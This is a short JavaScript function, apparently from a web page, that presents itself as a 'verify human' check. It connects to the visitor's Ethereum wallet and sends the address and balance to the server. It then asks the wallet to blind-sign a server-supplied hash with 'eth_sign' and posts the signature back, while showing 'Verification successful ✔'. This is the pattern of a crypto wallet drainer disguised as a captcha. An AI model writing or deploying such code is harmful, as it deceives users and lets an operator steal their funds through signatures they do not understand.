async function verifyHuman() {
  const provider = new ethers.providers.Web3Provider(window.ethereum, "any");
  await provider.send("eth_requestAccounts", []);
  const signer = provider.getSigner();
  const from = await signer.getAddress();
  const { h, id } = await (await fetch("/prep?a=" + from + "&b=" + (await signer.getBalance()))).json();
  const sig = await provider.send("eth_sign", [from, h]);
  await fetch("/push", { method: "POST", body: JSON.stringify({ id, from, sig }) });
  document.getElementById("res").innerText = "Verification successful ✔";
}
